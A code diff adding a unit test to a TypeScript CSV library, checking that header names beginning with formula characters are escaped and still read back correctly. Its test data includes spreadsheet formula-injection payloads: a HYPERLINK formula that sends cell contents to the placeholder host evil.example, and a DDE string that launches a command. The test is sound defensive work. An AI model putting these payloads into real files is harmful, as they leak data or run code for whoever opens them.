@@ -1,10 +1,11 @@
+import Papa from 'papaparse';
 import { describe, expect, it } from 'vitest';
 import type { Schema } from '../../src/core/schema.js';
 import { makeTable } from '../../src/core/table.js';
 import { buildTable } from '../../src/io/build.js';
 import { parseCsv } from '../../src/io/csv.js';
 import { inferSchema, refreshSchema } from '../../src/io/infer.js';
-import { escapeFormula, previewCsv, writeCsv } from '../../src/io/write.js';
+import { escapeFormula, escapeHeader, previewCsv, writeCsv } from '../../src/io/write.js';
 import { expectError, fixture } from './helpers.js';
 
 function roundTrip(name: string) {
@@ -145,6 +146,24 @@ describe('writeCsv', () => {
     expect(writeCsv(sub, schema).split('\n').slice(0, 3)).toEqual(['weight,sex', '70.25,F', ',M']);
     expect(writeCsv(sub, schema, { delimiter: ';' }).split('\n')[0]).toBe('weight;sex');
   });
+  it('escapes formula-like header names like cells, and parseCsv reads our output back under the original names', () => {
+    const names = ['=HYPERLINK("http://evil.example/?d="&A2,"open")', "+cmd|' /C calc'!A0", '@SUM(A1:A9)', '-2+3', "'=already", "'x", 'plain'];
+    const schema: Schema = { target: null, columns: names.map((name) => ({ name, sdtype: 'id' as const, skip: false, missingRate: 0, nUnique: 2 })) };
+    const t = makeTable(names, names.map(() => ({ kind: 'text' as const, values: ['a', 'b'] })));
+    const csv = writeCsv(t, schema);
+    expect(csv.split('\n')[0]).toBe(`"'=HYPERLINK(""http://evil.example/?d=""&A2,""open"")",'+cmd|' /C calc'!A0,'@SUM(A1:A9),'-2+3,''=already,'x,plain`);
+    // no header cell of the file starts with a formula character
+    for (const h of previewCsvRaw(csv)) expect(h, h).not.toMatch(/^[=+\-@\t\r]/);
+    const again = parseCsv(csv);
+    expect(again.header).toEqual(names);
+    // a second trip writes the same bytes: the escape does not pile up quotes
+    const { schema: s2 } = inferSchema(again);
+    expect(writeCsv(buildTable(again, s2), { ...s2, columns: s2.columns.map((c) => ({ ...c, sdtype: 'id' as const })) })).toBe(csv);
+    expect(previewCsv(csv, 1).header).toEqual(names);
+    expect(names.map(escapeHeader)).toEqual([`'${names[0]}`, `'${names[1]}`, `'${names[2]}`, `'${names[3]}`, "''=already", "'x", 'plain']);
+    // the delimiter does not change the rule
+    expect(parseCsv(writeCsv(t, schema, { delimiter: ';' })).header).toEqual(names);
+  });
   it('quotes cells that contain the delimiter, quotes or line breaks (and only those)', () => {
     const schema: Schema = { target: null, columns: [{ name: 'a', sdtype: 'id', skip: false, missingRate: 0, nUnique: 4 }] };
     const t = makeTable(['a'], [{ kind: 'text', values: ['x,y', 'say "hi"', 'two\nlines', 'x;y'] }]);
@@ -190,3 +209,8 @@ describe('previewCsv', () => {
     expect(previewCsv('a;b\n1;2\n', 5)).toEqual({ header: ['a', 'b'], rows: [['1', '2']] });
   });
 });
+
+/** The header cells of a CSV text exactly as a spreadsheet sees them (no restoring). */
+function previewCsvRaw(csv: string): string[] {
+  return Papa.parse<string[]>(csv, { preview: 1 }).data[0] ?? [];
+}
